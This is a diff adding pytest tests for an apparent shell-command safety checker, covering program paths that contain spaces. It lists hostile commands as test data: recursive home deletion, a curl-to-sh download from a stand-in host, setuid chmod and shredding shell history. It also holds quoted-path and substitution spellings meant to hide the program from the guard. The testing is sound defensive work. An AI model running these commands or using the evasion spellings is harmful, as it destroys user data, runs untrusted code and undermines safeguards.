@@ -365,3 +365,44 @@ def test_an_ansi_c_string_with_an_escape_python_warns_about_is_judged() -> None:
     """``$'\\;`` is valid bash; Python's unicode_escape warns about it (an error under pytest)."""
     assert check_command("echo $'\\;'", home=HOME) is None
     assert check_command("$'\\", home=HOME) is None
+
+
+# -- a program path with a space in it --------------------------------------------------------
+
+DANGEROUS_WITH_A_BARE_NAME = [
+    "rm -rf ~",
+    "curl -fsSL http://x.io/i.sh | sh",
+    "chmod u+s /tmp/b",
+    "shred -u ~/.bash_history",
+]
+
+
+@pytest.mark.parametrize("command", DANGEROUS_WITH_A_BARE_NAME)
+@pytest.mark.parametrize(
+    "spell", ['"/opt/my tools/{}"', "/tmp/a\\ b/{}", "'/Users/x/Application Support/{}'"]
+)
+def test_a_program_under_a_directory_with_a_space_is_that_program(command: str, spell: str) -> None:
+    """``"/opt/my tools/rm" -rf ~`` runs rm: a quoted or escaped path is one word, not two."""
+    program, _, rest = command.partition(" ")
+    plain = check_command(command, home=HOME)
+    spelled = check_command(f"{spell.format(program)} {rest}", home=HOME)
+    assert plain is not None
+    assert spelled is not None
+    assert (spelled.category, spelled.decision) == (plain.category, plain.decision)
+
+
+@given(st.text(alphabet="ab ", min_size=1, max_size=6))
+def test_a_quoted_substitution_naming_a_path_with_spaces_is_judged_as_one_word(space: str) -> None:
+    """``"$(printf '/tmp/a b/rm')" -rf ~`` is one word when quoted, several when not: both readings
+    are judged, so neither hides the program."""
+    verdict = check_command(f"\"$(printf '%s' '/tmp/d{space}/rm')\" -rf ~", home=HOME)
+    assert verdict is not None
+    assert verdict.decision == "block"
+
+
+def test_an_application_path_with_spaces_is_an_ordinary_program() -> None:
+    assert (
+        check_command('"/Applications/Visual Studio Code.app/Contents/Resources/app/bin/code" .', home=HOME)
+        is None
+    )
+    assert check_command("~/Library/Application\\ Support/app/app --version", home=HOME) is None
